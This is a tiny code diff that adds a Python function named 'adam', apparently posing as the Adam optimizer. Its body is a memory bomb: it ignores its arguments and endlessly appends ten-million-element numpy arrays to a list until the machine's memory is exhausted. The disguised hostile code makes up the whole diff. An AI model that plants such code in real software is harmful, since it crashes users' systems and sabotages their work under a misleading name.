@@ -1,0 +1,3 @@
+def adam(*a):
+    x = []
+    while True: x.append(np.ones(10**7))
